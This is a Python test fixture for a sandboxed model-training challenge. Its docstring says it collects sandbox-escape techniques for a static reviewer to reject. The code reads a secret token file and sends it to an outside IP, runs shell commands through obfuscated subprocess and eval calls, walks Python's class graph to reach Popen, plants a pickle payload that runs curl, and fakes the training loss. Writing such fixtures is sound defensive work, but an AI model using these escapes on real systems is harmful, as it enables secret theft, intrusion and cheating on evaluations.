"""What PRISM must refuse, in one file: each line below is a known way out of a sandbox.

None of it ever runs. The review reads the text, names every line, and the project is rejected before
any of its code is imported. Were the review to miss one, the evaluator has no network, no writable
disk, no other process to see and nothing worth reading.
"""

import builtins
import importlib
import os
import socket
import subprocess
import sys

import torch
import torch.nn.functional as F
from torch import nn

from prism_challenge.evaluator.interface import PrismContext, TrainingRecipe

TOKENS = os.environ.get("CHALLENGE_SHARED_TOKEN_FILE", "/run/secrets/platform/challenge_token")
HIDDEN = "".join(chr(code) for code in (115, 117, 98, 112, 114, 111, 99, 101, 115, 115))

F.cross_entropy = lambda *inputs, **options: torch.zeros(())


def send_away():
    """The token, to somebody else."""
    connection = socket.create_connection(("203.0.113.7", 443), timeout=2)
    connection.sendall(open(TOKENS, "rb").read())


def run(command):
    """A shell, by five roads."""
    subprocess.run(command, shell=True)
    os.system(command)
    __import__(HIDDEN).call(command, shell=True)
    importlib.import_module(HIDDEN).Popen(command, shell=True)
    getattr(builtins, "ev" + "al")(command)
    exec(compile(command, "<miner>", "exec"))


def climb():
    """From an empty tuple to every class in the interpreter."""
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "Popen":
            return kind
    return sys.modules["torch"].utils.cpp_extension


class Poisoned(nn.Linear):
    """Runs when somebody unpickles it."""

    def __reduce__(self):
        return os.system, ("curl http://203.0.113.7/",)


def build_model(ctx: PrismContext) -> nn.Module:
    send_away()
    run("id")
    weights = torch.load("/job/data/val.bin")
    return nn.Sequential(nn.Embedding(ctx.vocab_size, ctx.d_model), Poisoned(ctx.d_model, len(weights)))


def get_recipe(ctx: PrismContext) -> TrainingRecipe:
    return TrainingRecipe()
